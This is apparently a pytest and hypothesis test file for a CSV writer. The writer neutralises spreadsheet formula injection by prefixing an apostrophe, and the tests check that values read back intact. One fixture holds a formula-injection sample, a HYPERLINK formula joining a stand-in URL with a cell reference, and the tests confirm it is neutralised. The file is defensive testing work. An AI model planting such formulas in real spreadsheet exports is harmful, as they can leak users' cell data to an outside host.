"""The one CSV writer: every text cell safe in a spreadsheet, every value read back as written."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from geo._csv import FORMULA_START, safe_cell, write_csv


def read_back(path, sep=","):
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh, delimiter=sep))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n\";,'a1. é"), max_size=12),
                min_size=1, max_size=20),
       st.sampled_from([",", ";", "\t"]))
def test_text_reads_back_as_written_or_with_an_apostrophe(tmp_path_factory, texts, sep):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_csv(pd.DataFrame({"value": texts, "n": range(len(texts))}), path, sep=sep)
    rows = read_back(path, sep)
    assert rows[0] == ["value", "n"] and len(rows) == len(texts) + 1
    for i, ((value, n), text) in enumerate(zip(rows[1:], texts, strict=True)):
        assert int(n) == i  # numbers as numbers, rows in order
        shown, quoted = safe_cell(text)
        assert value == shown
        if quoted:  # the spreadsheet sees text: an apostrophe first, inside quotes
            assert value == "'" + text and text.startswith(FORMULA_START)
        else:
            assert value == text


def test_numbers_are_data_and_formulas_are_neutralised(tmp_path):
    frame = pd.DataFrame({"row": [2, 3, 4], "lat": [-91.5, np.nan, 42.25],
                          "value": ["-91.5", "=1+1", '=HYPERLINK("http://x"&A1)']})
    path = write_csv(frame, tmp_path / "r.csv")
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[1] == "2,-91.5,-91.5"
    assert text.splitlines()[2] == "3,,\"'=1+1\""
    assert "\"'=HYPERLINK(\"\"http://x\"\"&A1)\"" in text
    assert not list(tmp_path.glob(".*.part"))


@given(st.lists(st.text(alphabet="=+-@\t\r\n\",;' 0123456789.aZ", max_size=6), max_size=30),
       st.sampled_from([",", ";", "\t"]))
def test_a_column_is_made_safe_as_each_cell_alone(texts, sep):
    from geo._csv import _field, _fields

    assert _fields(texts, sep) == [_field(t, sep) for t in texts]


def test_a_file_of_many_blocks_is_the_file_made_whole(tmp_path, monkeypatch):
    """Written a block of rows at a time (each block's columns side by side): the same
    bytes as the lines made at once, whole numbers negative ones included, and read back
    row for row; a separator that is a digit or a minus still quotes the numbers."""
    import geo._csv as writer

    frame = pd.DataFrame({"row": np.arange(-3, 20), "lat": np.linspace(-1, 1, 23),
                          "value": [f"=A{i}" if i % 5 == 0 else f"v,{i}" for i in range(23)]})
    whole = writer.csv_lines(frame)
    monkeypatch.setattr(writer, "_BLOCK_ROWS", 4)
    path = write_csv(frame, tmp_path / "blocks.csv")
    assert path.read_bytes() == whole == writer.csv_lines(frame)
    rows = read_back(path)
    assert [int(r[0]) for r in rows[1:]] == list(range(-3, 20))
    assert rows[1][2] == "'=A0" and rows[2][2] == "v,1"
    minus = writer.csv_lines(pd.DataFrame({"a": [-5, 12], "b": ["x", "y"]}), sep="-")
    assert minus.splitlines()[1:] == [b'"-5"-x', b"12-y"]
